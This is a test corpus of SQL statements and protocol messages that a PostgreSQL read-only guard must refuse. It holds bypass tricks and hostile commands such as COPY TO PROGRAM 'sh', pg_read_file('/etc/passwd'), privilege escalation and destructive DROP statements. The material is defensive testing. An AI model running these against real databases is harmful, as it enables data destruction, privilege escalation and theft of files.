# What a read grant must refuse. One attack a line:
#
#   SQL [\bind VALUE | VALUE …] [\then SQL …]     messages of one session: simple queries, or Parse/Bind/Execute with values
#   \startup NAME=VALUE \then …                   a session with this startup parameter
#   \call FUNCTION INTEGER …                      a function call message
#   \raw HEX …                                    bytes as they are, behind the login
#
# `--- RULE` begins a section: the rule that refuses (`-`: only the proof counts), and in parentheses what else to know. Every attack has a proof: `proof.world()` of target.sql, or the statement in the last `? SQL` line, asked
# on a second, direct connection, must answer the same before and after. Behind `! REASON` are attacks that no proof would
# show, or not here.

--- read_grant.statement_kind
INSERT INTO written VALUES (1)
INSERT INTO written SELECT id FROM u RETURNING *
INSERT INTO written VALUES ($1, $2) \bind 1 | note
INSERT INTO t VALUES (1, 2) ON CONFLICT (id) DO UPDATE SET a = 99
INSERT INTO shown VALUES (77, 1)
INSERT INTO parted VALUES (1, 'x')
INSERT INTO written DEFAULT VALUES
UPDATE t SET a = a + 1
UPDATE t SET a = a + 1 WHERE id = $1 \bind 1
UPDATE shown SET a = 5
UPDATE ONLY public.t AS x SET a = x.a + u.a FROM u WHERE u.id = x.id RETURNING x.*
DELETE FROM t
DELETE FROM t USING u WHERE t.id = u.id
TRUNCATE t
TRUNCATE t, u RESTART IDENTITY CASCADE
ALTER SEQUENCE s RESTART WITH 50
CREATE TABLE made (a int)
CREATE TABLE made AS SELECT 1 AS a
CREATE TABLE made (LIKE t INCLUDING ALL)
CREATE UNLOGGED TABLE made (a int)
CREATE MATERIALIZED VIEW made AS SELECT 1
REFRESH MATERIALIZED VIEW m
CREATE VIEW made AS SELECT 1
CREATE RECURSIVE VIEW made (n) AS SELECT 1
CREATE OR REPLACE FUNCTION made() RETURNS int LANGUAGE sql AS 'SELECT 1'
CREATE FUNCTION pg_temp.made() RETURNS int LANGUAGE sql AS 'SELECT 1'
CREATE PROCEDURE made() LANGUAGE sql AS 'SELECT 1'
CREATE AGGREGATE made (int) (sfunc = int4pl, stype = int)
CREATE OPERATOR public.<<<< (leftarg = int, rightarg = int, function = int4pl)
CREATE CAST (public.mood AS int) WITH INOUT
CREATE INDEX made ON t (b)
CREATE UNIQUE INDEX made ON t ((a + 1))
CREATE SEQUENCE made
CREATE TYPE made AS ENUM ('a')
CREATE DOMAIN made AS int
CREATE SCHEMA made
CREATE SCHEMA made CREATE TABLE x (a int)
CREATE ROLE made SUPERUSER LOGIN PASSWORD 'x'
CREATE USER made
CREATE EXTENSION intarray
CREATE TRIGGER made BEFORE INSERT ON t FOR EACH ROW EXECUTE FUNCTION suppress_redundant_updates_trigger()
CREATE RULE made AS ON INSERT TO t DO ALSO NOTIFY x
CREATE POLICY made ON t USING (true)
CREATE STATISTICS made ON id, a FROM t
CREATE COLLATION made FROM "C"
CREATE PUBLICATION made
CREATE FOREIGN DATA WRAPPER made
CREATE TEXT SEARCH CONFIGURATION made (COPY = simple)
ALTER TABLE t ADD COLUMN d int
ALTER TABLE t RENAME TO renamed
ALTER TABLE t DISABLE TRIGGER ALL
ALTER TABLE t SET SCHEMA app
ALTER TABLE t OWNER TO bystander
ALTER TABLE t ENABLE ROW LEVEL SECURITY
ALTER TABLE t SET (fillfactor = 50)
ALTER TABLE t REPLICA IDENTITY FULL
ALTER INDEX i RENAME TO j
ALTER FUNCTION app.effect() STABLE
ALTER FUNCTION app.tax(numeric) RENAME TO taxes
ALTER TYPE mood ADD VALUE 'great'
ALTER DOMAIN positive DROP CONSTRAINT positive_check
ALTER SYSTEM SET work_mem = '5MB'
ALTER ROLE CURRENT_USER SET default_transaction_read_only = off
ALTER ROLE bystander PASSWORD 'known'
ALTER ROLE bystander SUPERUSER
ALTER DATABASE corpus SET default_transaction_read_only = off
ALTER DATABASE corpus CONNECTION LIMIT 5
ALTER DEFAULT PRIVILEGES GRANT ALL ON TABLES TO PUBLIC
ALTER LARGE OBJECT 4711 OWNER TO bystander
ALTER PUBLICATION pub ADD TABLE u
ALTER EXTENSION hstore SET SCHEMA app
DROP TABLE u
DROP VIEW shown
DROP FUNCTION app.tax(numeric)
DROP SEQUENCE s
DROP INDEX i
DROP ROLE bystander
DROP EXTENSION hstore
DROP SCHEMA app CASCADE
DROP OWNED BY plain_owner CASCADE
REASSIGN OWNED BY plain_owner TO bystander
GRANT ALL ON t TO PUBLIC
GRANT bystander TO plain_owner
REVOKE ALL ON FUNCTION app.tax(numeric) FROM PUBLIC
GRANT pg_write_server_files TO bystander
COMMENT ON TABLE t IS 'x'
COMMENT ON ROLE bystander IS 'x'
ANALYZE t
VACUUM FULL t
REINDEX TABLE t
CLUSTER t USING t_pkey
DO $$ BEGIN DELETE FROM t; END $$
DO LANGUAGE plpgsql 'begin perform pg_advisory_lock(4711); end'
CALL p()
CALL app.proc()
SELECT 1; DROP TABLE u
BEGIN; SELECT 1; DELETE FROM t; COMMIT
BEGIN READ ONLY; COMMIT; DELETE FROM t
/* SELECT */ DROP/**/TABLE u
SELECT 1; /* ; */ ; DELETE FROM t
select '\'; drop table u; --'
SELECT $$x$$; UPDATE t SET a = 99 WHERE b <> $a$;$a$
SELECT U&'\0027'; DELETE FROM t --'
SELECT /* /* nested */ DELETE */ 1; DELETE FROM t
SELECT 1 -- comment;↵ ; DELETE FROM t
;;;DELETE FROM t;;;
EXPLAIN ANALYZE INSERT INTO written VALUES (1)
EXPLAIN (ANALYZE, BUFFERS) UPDATE t SET a = 99
EXPLAIN ANALYZE CREATE TABLE made AS SELECT 1
EXPLAIN (ANALYZE) DELETE FROM t
COPY (INSERT INTO written VALUES (1) RETURNING *) TO STDOUT
COPY (DELETE FROM t RETURNING *) TO STDOUT
COPY (UPDATE t SET a = 99 RETURNING *) TO STDOUT WITH CSV
PREPARE q AS INSERT INTO written VALUES ($1) \then EXECUTE q(1)
PREPARE q AS DELETE FROM t \then EXECUTE q
BEGIN \then SET LOCAL work_mem = '4MB' \then DELETE FROM t \then COMMIT
NOTIFY c, 'payload' \then INSERT INTO written VALUES (1)
SET CONSTRAINTS ALL IMMEDIATE \then INSERT INTO written VALUES (1)
CREATE TEMP TABLE x (a int) \then INSERT INTO written VALUES (1)
! cannot run inside the transaction that shows it, needs a setting or a version of the server, or does nothing that is seen
GRANT SET ON PARAMETER log_statement TO bystander
EXPLAIN ANALYZE REFRESH MATERIALIZED VIEW m
DELETE FROM t; SELECT 1/0
CREATE INDEX CONCURRENTLY made ON t (b)
CREATE DATABASE made
CREATE TABLESPACE made LOCATION '/tmp'
CREATE SUBSCRIPTION made CONNECTION 'host=evil' PUBLICATION p
CREATE USER MAPPING FOR CURRENT_USER SERVER nowhere OPTIONS (user 'x')
CREATE LANGUAGE made HANDLER plpgsql_call_handler
CREATE EVENT TRIGGER made ON ddl_command_start EXECUTE FUNCTION app.effect()
CREATE ACCESS METHOD made TYPE INDEX HANDLER bthandler
CREATE TABLE made AS EXECUTE q
MERGE INTO t USING u ON t.id = u.id WHEN MATCHED THEN DELETE
UPDATE t SET a = 1 WHERE CURRENT OF c
SECURITY LABEL ON TABLE t IS 'x'
IMPORT FOREIGN SCHEMA s FROM SERVER r INTO l
DROP DATABASE nowhere
DROP SUBSCRIPTION nowhere
VACUUM
VACUUM (ANALYZE) t
REINDEX DATABASE CONCURRENTLY corpus
CLUSTER
CHECKPOINT
LOAD 'auto_explain'
NOTIFY c
PREPARE TRANSACTION 'x'
COMMIT PREPARED 'x'
ROLLBACK PREPARED 'x'
EXPLAIN DELETE FROM t
PREPARE q AS UPDATE t SET a = 1
ALTER SYSTEM RESET ALL
ALTER TABLE ALL IN TABLESPACE pg_default SET TABLESPACE pg_global
CREATE TRANSFORM FOR int LANGUAGE sql (FROM SQL WITH FUNCTION a(internal))

--- read_grant.not_understood
WITH x AS (INSERT INTO written VALUES (1) RETURNING *) SELECT * FROM x
WITH x AS (SELECT 1), y AS (DELETE FROM t RETURNING *) SELECT * FROM x
WITH x AS (DELETE FROM t WHERE id = $1 RETURNING *) SELECT * FROM x \bind 1
WITH RECURSIVE r AS (SELECT 1 UNION SELECT 1 FROM r), d AS (UPDATE t SET a = 99) SELECT * FROM r
EXPLAIN ANALYZE WITH x AS (DELETE FROM t RETURNING *) SELECT * FROM x
COPY (WITH x AS (DELETE FROM t RETURNING *) SELECT * FROM x) TO STDOUT
PREPARE q AS WITH x AS (DELETE FROM t RETURNING *) SELECT * FROM x \then EXECUTE q
! PostgreSQL refuses it as well, on every version or on some
WITH m AS (MERGE INTO t USING u ON t.id = u.id WHEN MATCHED THEN DELETE RETURNING *) SELECT * FROM m
SELECT * FROM (WITH x AS (DELETE FROM t RETURNING *) SELECT * FROM x) y
DECLARE c CURSOR FOR WITH x AS (DELETE FROM t RETURNING *) SELECT * FROM x
VALUES ((WITH x AS (DELETE FROM t RETURNING a) SELECT a FROM x))
SELECT * FROM t TABLESAMPLE evil.method (10)
SELEC 1
DROP TABLE
SELECT 'unterminated
SELECT 1; DELETE FROM t; SELECT 'unterminated
INSERT INTO t VALUES (1

--- read_grant.select_into
SELECT * INTO made FROM u
SELECT 1 AS a INTO UNLOGGED made
WITH x AS (SELECT 1 AS a) SELECT * INTO made FROM x
SELECT 1 AS a INTO made UNION SELECT 2
EXPLAIN ANALYZE SELECT * INTO made FROM u
! leaves nothing behind
SELECT 1 AS a INTO TEMP made

--- read_grant.row_lock
BEGIN \then SELECT * FROM t FOR UPDATE
BEGIN \then SELECT * FROM t FOR NO KEY UPDATE SKIP LOCKED
BEGIN \then SELECT * FROM t FOR SHARE
BEGIN \then SELECT * FROM t FOR KEY SHARE NOWAIT
BEGIN \then SELECT * FROM (SELECT * FROM t FOR UPDATE) x
BEGIN \then WITH x AS (SELECT * FROM t FOR UPDATE) SELECT * FROM x
BEGIN \then SELECT (SELECT a FROM t LIMIT 1 FOR UPDATE)
BEGIN \then DECLARE c CURSOR FOR SELECT * FROM t FOR UPDATE \then FETCH c
BEGIN \then SELECT ARRAY(SELECT a FROM t FOR SHARE)
BEGIN \then SELECT * FROM t, u FOR UPDATE OF u
BEGIN \then SELECT * FROM t WHERE id = $1 FOR UPDATE \bind 1

--- read_grant.copy
COPY t TO '/tmp/pglens-corpus'; INSERT INTO written VALUES (1)
COPY (SELECT 1) TO '/tmp/pglens-corpus'; INSERT INTO written VALUES (1)
COPY (SELECT 1) TO PROGRAM 'cat >/dev/null'; INSERT INTO written VALUES (1)
COPY written (id) FROM PROGRAM 'echo 1'
COPY written (id) FROM PROGRAM 'echo 1' WITH (FORMAT csv)
! needs COPY data or a file
COPY t FROM STDIN
COPY BINARY t FROM STDIN
COPY t FROM STDIN WHERE a > 1
COPY t FROM '/etc/passwd'
COPY t TO PROGRAM 'sh'
COPY (SELECT 1) TO '/tmp/x' WITH (FORMAT csv)

--- read_grant.lock
BEGIN \then LOCK t
BEGIN \then LOCK TABLE t IN SHARE MODE
BEGIN \then LOCK TABLE t IN ACCESS EXCLUSIVE MODE NOWAIT
BEGIN \then LOCK TABLE t IN ROW SHARE MODE
BEGIN \then LOCK TABLE ONLY t, u IN EXCLUSIVE MODE
BEGIN \then LOCK shown

--- read_grant.setting
SET transaction_read_only = off; INSERT INTO written VALUES (1)
BEGIN; SET LOCAL transaction_read_only TO false; INSERT INTO written VALUES (1); COMMIT
BEGIN \then SET LOCAL transaction_read_only TO false \then INSERT INTO written VALUES (1) \then COMMIT
set "Transaction_Read_Only" = 'off'; INSERT INTO written VALUES (1)
SET default_transaction_read_only = 0 \then INSERT INTO written VALUES (1)
SET SESSION default_transaction_read_only TO 'no' \then INSERT INTO written VALUES (1)
SET default_transaction_read_only TO "off" \then INSERT INTO written VALUES (1)
SET default_transaction_read_only = f \then INSERT INTO written VALUES (1)
SET default_transaction_read_only TO E'\x6fff' \then INSERT INTO written VALUES (1)
SET default_transaction_read_only TO U&'\006fff' \then INSERT INTO written VALUES (1)
SET U&"default_transaction_read_onl\0079" = off \then INSERT INTO written VALUES (1)
SET default_transaction_read_only TO DEFAULT \then INSERT INTO written VALUES (1)
RESET default_transaction_read_only \then INSERT INTO written VALUES (1)
BEGIN \then SET TRANSACTION READ WRITE \then INSERT INTO written VALUES (1) \then COMMIT
BEGIN \then SET TRANSACTION ISOLATION LEVEL SERIALIZABLE, READ WRITE \then INSERT INTO written VALUES (1) \then COMMIT
SET SESSION CHARACTERISTICS AS TRANSACTION READ WRITE \then INSERT INTO written VALUES (1)
SET SESSION CHARACTERISTICS AS TRANSACTION READ ONLY, READ WRITE \then INSERT INTO written VALUES (1)
BEGIN READ WRITE \then INSERT INTO written VALUES (1) \then COMMIT
BEGIN WORK READ WRITE; INSERT INTO written VALUES (1); COMMIT
BEGIN TRANSACTION ISOLATION LEVEL READ COMMITTED READ WRITE \then INSERT INTO written VALUES (1) \then COMMIT
START TRANSACTION READ WRITE \then INSERT INTO written VALUES (1) \then COMMIT
START TRANSACTION READ ONLY, READ WRITE, NOT DEFERRABLE \then INSERT INTO written VALUES (1) \then COMMIT
BEGIN; COMMIT; BEGIN READ ONLY, READ WRITE; INSERT INTO written VALUES (1); COMMIT
SELECT set_config('transaction_read_only', 'off', false); INSERT INTO written VALUES (1)
SELECT set_config('default_transaction_read_only', 'off', false) \then INSERT INTO written VALUES (1)
SELECT pg_catalog.set_config('default_transaction_read_only', 'off', false) \then INSERT INTO written VALUES (1)
SELECT set_config('Default_Transaction_Read_Only'::text, 'off'::text, false) \then INSERT INTO written VALUES (1)
SELECT set_config('default_transaction_read_only', NULL, false) \then INSERT INTO written VALUES (1)
SELECT set_config('default_transaction_read_only', $1, false) \bind off \then INSERT INTO written VALUES (1)
SELECT set_config(name, 'off', false) FROM pg_settings WHERE name = 'default_transaction_read_only' \then INSERT INTO written VALUES (1)
EXPLAIN ANALYZE SELECT set_config('default_transaction_read_only', 'off', false) \then INSERT INTO written VALUES (1)
COPY (SELECT set_config('default_transaction_read_only', 'off', false)) TO STDOUT \then INSERT INTO written VALUES (1)
WITH x AS (SELECT set_config('default_transaction_read_only', 'off', false)) SELECT * FROM x \then INSERT INTO written VALUES (1)
SET session_replication_role = replica; INSERT INTO written VALUES (1)
SET ROLE plain_owner \then INSERT INTO written VALUES (1)
SET LOCAL ROLE plain_owner; INSERT INTO written VALUES (1)
SET ROLE NONE \then INSERT INTO written VALUES (1)
RESET ROLE \then INSERT INTO written VALUES (1)
SET SESSION AUTHORIZATION plain_owner \then INSERT INTO written VALUES (1)
SET SESSION AUTHORIZATION DEFAULT \then INSERT INTO written VALUES (1)
RESET SESSION AUTHORIZATION \then INSERT INTO written VALUES (1)
SET session_authorization = plain_owner \then INSERT INTO written VALUES (1)
SET standard_conforming_strings = off \then SELECT '\', '; INSERT INTO written VALUES (1); --'
SET standard_conforming_strings TO DEFAULT; INSERT INTO written VALUES (1)
SET client_encoding = 'SJIS' \then INSERT INTO written VALUES (1)
SET NAMES 'LATIN1' \then INSERT INTO written VALUES (1)
SET client_encoding TO BIG5 \then INSERT INTO written VALUES (1)
SELECT set_config('client_encoding', 'GBK', false) \then INSERT INTO written VALUES (1)
SELECT set_config('client_encoding', $1, false) \bind SJIS \then INSERT INTO written VALUES (1)
SELECT set_config('role', 'plain_owner', false) \then INSERT INTO written VALUES (1)
SELECT 1 WHERE set_config('session_replication_role', 'origin', false) IS NULL; INSERT INTO written VALUES (1)
SET synchronous_commit = off; INSERT INTO written VALUES (1)
SET allow_system_table_mods = on; INSERT INTO written VALUES (1)
SET lo_compat_privileges = on; INSERT INTO written VALUES (1)
SET log_statement = 'none'; INSERT INTO written VALUES (1)
SET pg_stat_statements.track = 'none'; INSERT INTO written VALUES (1)
SET plpgsql.variable_conflict = 'error'; INSERT INTO written VALUES (1)
SET backslash_quote = on; INSERT INTO written VALUES (1)
SET default_tablespace = ''; INSERT INTO written VALUES (1)
SET temp_tablespaces = ''; INSERT INTO written VALUES (1)
SET my.own = 'x'; INSERT INTO written VALUES (1)
! cannot be set, or only before the session begins
SET session_preload_libraries = 'x'
SET local_preload_libraries = 'x'
SET dynamic_library_path = '/tmp'
SET transaction_read_only FROM CURRENT
SET wal_compression = on
SET zero_damaged_pages = on
SET ignore_checksum_failure = on
SELECT set_config('Transaction_Read_Only'::text, 'off'::text, false)
! PostgreSQL refuses it, from 16 on
BEGIN \then RESET transaction_read_only \then INSERT INTO written VALUES (1) \then COMMIT
BEGIN \then SET transaction_read_only TO DEFAULT \then INSERT INTO written VALUES (1) \then COMMIT
BEGIN \then SELECT 1 \then RESET transaction_read_only \then INSERT INTO written VALUES (1) \then COMMIT

--- read_grant.function
SELECT set_config($1, 'off', false) \bind default_transaction_read_only \then INSERT INTO written VALUES (1)
SELECT set_config('default_' || 'transaction_read_only', 'off', false) \then INSERT INTO written VALUES (1)
SELECT set_config(setting_name => 'default_transaction_read_only', new_value => 'off', is_local => false) \then INSERT INTO written VALUES (1)
SELECT set_config(name, 'off', false) FROM pg_settings WHERE name LIKE 'default_transaction_read_only' \then INSERT INTO written VALUES (1)
SELECT set_config(n, 'off', false) FROM (VALUES ('default_transaction_read_only')) v (n) \then INSERT INTO written VALUES (1)
SELECT set_config(s.name, 'off', false) FROM pg_settings s JOIN t ON true WHERE s.name = 'default_transaction_read_only' \then INSERT INTO written VALUES (1)
SELECT set_config(CASE WHEN true THEN 'default_transaction_read_only' END, 'off', false) \then INSERT INTO written VALUES (1)
SELECT set_config((SELECT 'default_transaction_read_only'), 'off', false) \then INSERT INTO written VALUES (1)
EXECUTE nothing(set_config('default_' || 'transaction_read_only', 'off', false)) \then INSERT INTO written VALUES (1)
SELECT pg_advisory_lock(4711)
SELECT pg_advisory_lock($1) \bind 4711
SELECT pg_try_advisory_lock(1, 2)
SELECT pg_advisory_lock_shared(4711)
BEGIN \then SELECT pg_advisory_xact_lock(4711)
BEGIN \then SELECT pg_try_advisory_xact_lock_shared(4711)
SELECT "pg_advisory_lock"(4711)
SELECT PG_Catalog . Pg_Advisory_Lock (4711)
SELECT corpus.pg_catalog.pg_advisory_lock(4711)
SELECT U&"pg_advisory\005flock"(4711)
SELECT U&"pg!005fadvisory!005flock" UESCAPE '!' (4711)
SELECT pg_advisory_lock/**/(4711)
SELECT pg_advisory_lock--↵(4711)
SELECT (4711).pg_advisory_lock
SELECT (4711::bigint).pg_advisory_lock
SELECT x.pg_advisory_lock FROM unnest(ARRAY[4711::bigint]) x
SELECT x.pg_advisory_lock FROM generate_series(4711::bigint, 4711) AS x
SELECT (x.*).pg_advisory_lock FROM unnest(ARRAY[4711::bigint]) x
SELECT (SELECT pg_advisory_lock(4711))
SELECT * FROM pg_advisory_lock(4711)
SELECT * FROM t WHERE pg_advisory_lock(4711) IS NULL
SELECT * FROM t ORDER BY pg_advisory_lock(4711)::text
SELECT pg_advisory_lock(4711)::text AS x, count(*) FROM t GROUP BY 1
SELECT count(*) FROM t GROUP BY pg_advisory_lock(4711)::text
SELECT count(*) FROM t HAVING pg_try_advisory_lock(4711)
SELECT * FROM t LIMIT (SELECT CASE WHEN pg_try_advisory_lock(4711) THEN 1 END)
SELECT * FROM t LIMIT pg_try_advisory_lock(4711)::int
SELECT * FROM t OFFSET pg_try_advisory_lock(4711)::int
SELECT DISTINCT ON (pg_try_advisory_lock(4711)) * FROM t
SELECT sum(a) OVER (PARTITION BY pg_try_advisory_lock(4711)) FROM t
SELECT sum(a) OVER w FROM t WINDOW w AS (ORDER BY pg_try_advisory_lock(4711))
SELECT sum(a) OVER (ROWS pg_try_advisory_lock(4711)::int PRECEDING) FROM t
SELECT sum(a) FILTER (WHERE pg_try_advisory_lock(4711)) FROM t
SELECT percentile_cont(0.5) WITHIN GROUP (ORDER BY pg_try_advisory_lock(4711)::int) FROM t
SELECT string_agg(b, ',' ORDER BY pg_try_advisory_lock(4711)) FROM t
SELECT string_agg(b, pg_try_advisory_lock(4711)::text) FROM t
SELECT * FROM t JOIN u ON pg_try_advisory_lock(4711)
SELECT * FROM t, LATERAL pg_try_advisory_lock(4711)
SELECT * FROM ROWS FROM (pg_try_advisory_lock(4711), generate_series(1, 2)) AS x(a, b)
SELECT * FROM t TABLESAMPLE bernoulli (pg_try_advisory_lock(4711)::int)
SELECT * FROM t TABLESAMPLE bernoulli (100) REPEATABLE (pg_try_advisory_lock(4711)::int)
SELECT CASE WHEN pg_try_advisory_lock(4711) THEN 1 END
SELECT CASE pg_try_advisory_lock(4711) WHEN true THEN 1 END
SELECT CASE WHEN false THEN true ELSE pg_try_advisory_lock(4711) END
SELECT COALESCE(NULL, pg_try_advisory_lock(4711))
SELECT GREATEST(1, pg_try_advisory_lock(4711)::int)
SELECT NULLIF(pg_try_advisory_lock(4711), false)
SELECT ARRAY[pg_try_advisory_lock(4711)]
SELECT (ARRAY[1])[pg_try_advisory_lock(4711)::int]
SELECT (ARRAY[1, 2])[1:pg_try_advisory_lock(4711)::int]
SELECT c[pg_try_advisory_lock(4711)::int] FROM t
SELECT ROW(pg_try_advisory_lock(4711))
SELECT pg_try_advisory_lock(4711)::text
SELECT CAST(pg_try_advisory_lock(4711) AS text)
SELECT pg_try_advisory_lock(4711) IS NULL
SELECT pg_try_advisory_lock(4711) IS TRUE
SELECT true IN (pg_try_advisory_lock(4711))
SELECT 1 BETWEEN 0 AND pg_try_advisory_lock(4711)::int
SELECT pg_try_advisory_lock(4711)::text COLLATE "C"
SELECT pg_try_advisory_lock(4711)::text LIKE 'x'
SELECT pg_try_advisory_lock(4711) IS DISTINCT FROM false
SELECT EXISTS (SELECT 1 WHERE pg_try_advisory_lock(4711))
SELECT true = ANY (SELECT pg_try_advisory_lock(4711))
SELECT true = ANY (ARRAY[pg_try_advisory_lock(4711)])
SELECT NOT pg_try_advisory_lock(4711) AND true
SELECT now() AT TIME ZONE CASE WHEN pg_try_advisory_lock(4711) THEN 'UTC' END
SELECT xmlelement(name a, xmlattributes(pg_try_advisory_lock(4711) AS b))
SELECT xmlforest(pg_try_advisory_lock(4711) AS a)
SELECT xmlserialize(content xmlelement(name a, pg_try_advisory_lock(4711)) AS text)
SELECT * FROM xmltable('/a' PASSING xmlelement(name a, pg_try_advisory_lock(4711)) COLUMNS b text PATH 'b')
SELECT * FROM xmltable('/a' PASSING ('<a/>'::xml) COLUMNS b text PATH 'b' DEFAULT pg_try_advisory_lock(4711)::text)
SELECT * FROM xmltable(('/a' || CASE WHEN pg_try_advisory_lock(4711) THEN '' END) PASSING ('<a/>'::xml) COLUMNS b text PATH 'b')
SELECT substring('abc' FROM pg_try_advisory_lock(4711)::int)
SELECT overlay('abc' PLACING pg_try_advisory_lock(4711)::text FROM 1)
SELECT position(pg_try_advisory_lock(4711)::text IN 'abc')
SELECT trim(both pg_try_advisory_lock(4711)::text FROM 'abc')
SELECT extract(day FROM now() + pg_try_advisory_lock(4711)::int * interval '1 day')
SELECT a, count(*) FROM t GROUP BY GROUPING SETS ((a, pg_try_advisory_lock(4711)), ())
VALUES (pg_try_advisory_lock(4711))
TABLE t ORDER BY pg_try_advisory_lock(4711)
SELECT true UNION SELECT pg_try_advisory_lock(4711)
(SELECT pg_try_advisory_lock(4711)) EXCEPT SELECT true
WITH x AS MATERIALIZED (SELECT pg_try_advisory_lock(4711)) SELECT * FROM x
WITH x AS MATERIALIZED (SELECT 1) SELECT * FROM x WHERE pg_try_advisory_lock(4711)
WITH RECURSIVE r AS (SELECT true AS n UNION SELECT pg_try_advisory_lock(4711) FROM r WHERE n) SELECT * FROM r
PREPARE q (boolean) AS SELECT $1 \then EXECUTE q(pg_try_advisory_lock(4711))
PREPARE q (boolean) AS SELECT $1 \then EXPLAIN EXECUTE q(pg_try_advisory_lock(4711))
PREPARE q AS SELECT pg_advisory_lock(4711) \then EXECUTE q
EXPLAIN ANALYZE SELECT pg_advisory_lock(4711)
BEGIN \then DECLARE c CURSOR FOR SELECT pg_advisory_lock(4711) \then FETCH c
DECLARE c CURSOR WITH HOLD FOR SELECT pg_advisory_lock(4711)
COPY (SELECT pg_advisory_lock(4711)) TO STDOUT
SELECT 1; SELECT pg_advisory_lock(4711)
SELECT nextval('s')
SELECT setval('s', 77)
SELECT ('s'::regclass).nextval
SELECT x.nextval FROM unnest(ARRAY['s'::regclass]) x
SELECT nextval(c.oid) FROM pg_class c WHERE relname = 's'
SELECT sum(nextval('s')) FROM t
SELECT lo_unlink(4711)
SELECT lo_from_bytea(0, 'x')
SELECT lo_create(0)
SELECT lo_creat(-1)
SELECT lo_put(4711, 0, 'xxx')
BEGIN; SELECT lowrite(lo_open(4711, 131072), 'xxx'); COMMIT
BEGIN; SELECT lo_truncate(lo_open(4711, 131072), 0); COMMIT
SELECT lo_import('/etc/hostname')
SELECT lo_export(4711, '/tmp/pglens-corpus'); INSERT INTO written VALUES (1)
SELECT query_to_xml('SELECT pg_advisory_lock(4711)', true, true, '')
SELECT query_to_xml_and_xmlschema('SELECT pg_advisory_lock(4711)', true, true, '')
SELECT xpath('//a', query_to_xml($1, true, true, '')) \bind SELECT pg_advisory_lock(4711)
SELECT count(*) FROM ts_stat('SELECT CASE WHEN pg_try_advisory_lock(4711) THEN to_tsvector(''x'') END')
SELECT ts_rewrite('a'::tsquery, 'SELECT ''a''::tsquery, CASE WHEN pg_try_advisory_lock(4711) THEN ''b''::tsquery END')
SELECT * FROM crosstab('SELECT ''a''::text, ''b''::text, pg_advisory_lock(4711)::text') AS c(a text, b text)
SELECT * FROM crosstab2('SELECT ''a''::text, ''b''::text, pg_advisory_lock(4711)::text')
SELECT * FROM connectby('t', 'a', 'id', '1', 0) AS x(a int, b int, c int); SELECT pg_advisory_lock(4711)
SELECT pg_stat_reset()
SELECT pg_stat_reset_shared('bgwriter')
SELECT pg_stat_reset_shared('archiver')
SELECT pg_switch_wal(), pg_switch_wal(), pg_advisory_lock(4711)
SELECT pg_reload_conf(), pg_sleep(1)
SELECT pg_create_physical_replication_slot('made')
SELECT pg_replication_origin_create('made')
SELECT pg_import_system_collations('public')
--- read_grant.function
SELECT app.effect()
SELECT app.effect_of(1)
SELECT app.effect_of($1) \bind 1
SELECT app . "effect" ()
SELECT corpus.app.effect()
SET search_path = app \then SELECT effect()
SELECT set_config('search_path', 'app', false) \then SELECT effect()
\startup search_path=app \then SELECT effect()
\startup options=-c search_path=app,public \then SELECT effect()
SELECT app.effect_many(1, 2, 3)
SELECT app.effect_many(VARIADIC ARRAY[1])
SELECT app.effect_default()
SELECT app.effect_default(1)
SELECT app.effect_default(b => 5)
SELECT * FROM app.effect_rows()
SELECT app.effect_rows()
SELECT * FROM t WHERE a IN (SELECT app.effect_rows())
SELECT note(t) FROM t
SELECT note(t.*) FROM t
SELECT app.effect_sum(a) FROM t
SELECT app.effect_sum(a) OVER (ORDER BY id) FROM t
SELECT app.effect_sum(DISTINCT a) FROM t
SELECT app.run('SELECT pg_advisory_lock(4711)')
SELECT app.run($1) \bind SELECT pg_advisory_lock(4711)
SELECT app.indirect()
SELECT app.indirect_twice()
SELECT app.indirect_builtin()
SELECT app.indirect_quoted()
SELECT app.atomic()
SELECT app.lock_internal(4711)
SELECT app.unlock_guard() \then INSERT INTO written VALUES (1)
SELECT app.effect(), app.coupon()
SELECT app.coupon() WHERE app.effect() = 1
PREPARE q AS SELECT app.effect() \then EXECUTE q
BEGIN \then DECLARE c CURSOR FOR SELECT app.effect() \then FETCH ALL c
COPY (SELECT app.effect()) TO STDOUT
EXPLAIN ANALYZE SELECT app.effect()
EXPLAIN SELECT app.effect_of(1) \then SELECT app.effect()
! seen by others only, ends the server's service, needs what is not there, or answers with what nobody should read
SELECT dblink_connect('dbname=corpus'); SELECT pg_advisory_lock(4711)
SELECT app.with_setting()
SELECT pg_terminate_backend(1)
SELECT pg_terminate_backend(pid) FROM pg_stat_activity
SELECT pg_terminate_backend(pid, 1000) FROM pg_stat_activity WHERE false
SELECT pg_catalog.pg_cancel_backend(1)
SELECT (0).pg_cancel_backend
SELECT pg_rotate_logfile()
SELECT pg_rotate_logfile_old()
SELECT pg_promote()
SELECT pg_promote(false)
SELECT pg_wal_replay_pause()
SELECT pg_wal_replay_resume()
SELECT pg_log_backend_memory_contexts(1)
SELECT pg_log_standby_snapshot()
SELECT pg_create_restore_point('x')
SELECT pg_backup_start('x')
SELECT pg_start_backup('x')
SELECT pg_stop_backup()
SELECT pg_create_logical_replication_slot('made', 'test_decoding')
SELECT pg_copy_physical_replication_slot('a', 'b')
SELECT pg_drop_replication_slot('nowhere')
SELECT pg_replication_slot_advance('nowhere', '0/0')
SELECT pg_sync_replication_slots()
SELECT * FROM pg_logical_slot_get_changes('x', NULL, NULL)
SELECT * FROM pg_logical_slot_peek_changes('x', NULL, NULL)
SELECT pg_logical_emit_message(true, 'a', 'b')
SELECT pg_logical_emit_message(false, 'a', 'b'::bytea)
SELECT pg_replication_origin_session_setup('x')
SELECT txid_current()
SELECT pg_current_xact_id()
SELECT pg_notify('c', 'x')
SELECT pg_notify($1, $2) \bind c | x
SELECT pg_stat_statements_reset()
SELECT pg_stat_reset_slru('x')
SELECT pg_stat_reset_single_table_counters(1)
SELECT pg_stat_force_next_flush()
SELECT brin_summarize_new_values('i')
SELECT brin_desummarize_range('i', 0)
SELECT gin_clean_pending_list('g')
SELECT pg_nextoid('pg_class', 'oid', 'i')
SELECT pg_stop_making_pinned_objects()
SELECT binary_upgrade_set_next_pg_type_oid(1)
SELECT pg_restore_relation_stats('relname', 't')
SELECT pg_clear_relation_stats('public', 't')
SELECT pg_extension_config_dump('t', '')
SELECT pg_read_file('/etc/passwd')
SELECT pg_read_file('PG_VERSION', 0, 10, true)
SELECT pg_read_binary_file('/etc/passwd')
SELECT pg_read_file($1) \bind PG_VERSION
SELECT ('PG_VERSION').pg_read_file
SELECT ('PG_VERSION'::text).pg_read_file
SELECT x.pg_read_file FROM unnest(ARRAY['PG_VERSION']) x
SELECT * FROM pg_ls_dir('/')
